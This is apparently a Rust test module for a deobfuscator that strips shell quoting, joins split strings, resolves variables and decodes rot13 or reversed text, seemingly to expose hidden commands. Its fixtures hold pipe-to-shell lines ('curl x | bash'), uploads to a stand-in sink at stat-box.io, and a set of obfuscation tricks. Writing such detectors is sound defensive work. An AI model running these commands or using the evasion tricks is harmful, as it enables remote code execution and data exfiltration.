use super::*;

fn plain(line: &str) -> String {
    let mut variables = Variables::default();
    variables.add("HOST=files.stat-box.io\nP=https\nDEST=$P://$HOST/in\nSINK = \"https://in.stat-box.io/k\"");
    undone(line, &variables).unwrap_or_else(|| line.to_owned())
}

#[test]
fn quoting_within_words_is_removed() {
    assert_eq!(plain(r"c\url x | ba\sh"), "curl x | bash");
    assert_eq!(plain("cu''rl x | w\"\"get"), "curl x | wget");
    assert_eq!(plain("c'ur'l x"), "curl x");
    assert_eq!(plain("curl${IFS}x"), "curl x");
    assert_eq!(plain("cu^rl x"), "curl x");
}

#[test]
fn parts_of_texts_are_joined() {
    assert_eq!(plain(r#"x("cu" + "rl")"#), r#"x("curl")"#);
    assert_eq!(plain("x = ['cu', 'rl'].join('')"), "x = \"curl\"");
    assert_eq!(plain("x = ''.join(['cu', 'rl'])"), "x = \"curl\"");
    assert_eq!(plain("run(chr(115)+chr(104))"), "run(\"sh\")");
    assert_eq!(plain("eval(String.fromCharCode(99, 117))"), "eval(\"cu\")");
}

#[test]
fn variables_are_replaced_by_their_values() {
    assert_eq!(plain("curl -T x \"$DEST/y\""), "curl -T x \"https://files.stat-box.io/in/y\"");
    assert_eq!(plain("requests.post(SINK, data=d)"), "requests.post(\"https://in.stat-box.io/k\", data=d)");
    assert_eq!(plain("requests.post(settings.SINK, data=d)"), "requests.post(\"https://in.stat-box.io/k\", data=d)");
    assert_eq!(plain("curl $OTHER"), "curl $OTHER");
}

#[test]
fn turned_texts_are_read() {
    assert!(plain("codecs.decode('phey uggc://k', 'rot13')").contains("curl http://x"));
    assert!(plain("echo 'hsab | x lruc' | rev").contains("curl x | bash"));
}

#[test]
fn work_is_limited() {
    let mut variables = Variables::default();
    variables.add(&"A=$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A\n".repeat(3));
    assert!(undone(&"$A ".repeat(100), &variables).is_none_or(|line| line.len() <= LONGEST_LINE));
    variables.add(&(0..10_000).map(|number| format!("v{number}=value\n")).collect::<String>());
    assert!(variables.values.len() <= MOST_VALUES);
}
